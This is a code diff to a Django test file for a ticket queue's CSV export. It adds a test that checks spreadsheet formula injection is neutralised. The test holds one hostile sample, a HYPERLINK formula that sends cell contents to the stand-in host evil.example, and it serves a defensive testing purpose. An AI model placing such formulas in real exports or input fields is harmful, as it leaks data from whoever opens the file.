@@ -357,11 +357,25 @@ def test_team_exports_the_filtered_queue_as_csv_and_it_is_audited(
     TicketFactory(client=client_of_rm, subject="other", channel="phone")
     response = login(feedback_user).get(reverse("feedback:queue_export") + "?channel=email")
     assert response.status_code == 200
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
     assert rows[0][0] == "reference"
     assert [r[-1] for r in rows[1:]] == ["投诉一"]
     assert rows[1][1] == client_of_rm.client_no
     assert LogEntry.objects.filter(additional_data__event="feedback.queue_exported").exists()
+
+
+def test_a_formula_in_a_ticket_subject_is_not_live_in_the_queue_export(
+    login, feedback_user, client_of_rm
+):
+    """Issue 12 point 12: the subject a client typed must not run in the supervisor's Excel."""
+    import csv
+    import io
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click for details")'
+    TicketFactory(client=client_of_rm, subject=evil)
+    response = login(feedback_user).get(reverse("feedback:queue_export"))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert rows[1][-1] == "'" + evil
 
 
 def test_rm_may_not_export(login, rm_user):
